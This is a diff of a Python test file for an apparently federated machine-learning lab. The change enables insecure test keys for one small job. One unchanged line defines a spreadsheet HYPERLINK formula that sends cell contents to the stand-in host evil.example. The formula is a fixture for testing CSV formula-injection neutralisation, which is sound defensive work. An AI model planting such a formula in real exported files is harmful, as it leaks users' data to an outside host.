@@ -19,7 +19,7 @@ from features.binning import BinSpec
 from features.safe_csv import neutralise, safe_frame, write_csv
 from lab.paths import UnsafeNameError, check_component, inside
 from models.secureboost.parts import ModelIdError, PlatformPart, RuleSplit, model_file
-from tests.conftest import REPO, make_vertical, vertical_config
+from tests.conftest import REPO, allow_test_keys, make_vertical, vertical_config
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
 
@@ -125,6 +125,8 @@ def test_a_platform_column_named_like_a_formula_is_inert_in_every_exported_table
     cfg = vertical_config()
     cfg["model"] = {"type": "hetero_lr", "max_epochs": 2, "max_bin": 6, "max_woe_bins": 3}
     cfg["crypto"] = {"key_bits": 512, "insecure_test_keys": True}
+    # The platform's node (this home) allows test keys and this tiny job's 150-row batch.
+    allow_test_keys(lab_home, "hetero_lr.min_batch_size=64")
     config_path = tmp_path / "experiment.yaml"
     config_path.write_text(yaml.safe_dump(cfg), encoding="utf-8")
     summary_path = tmp_path / "summary.json"
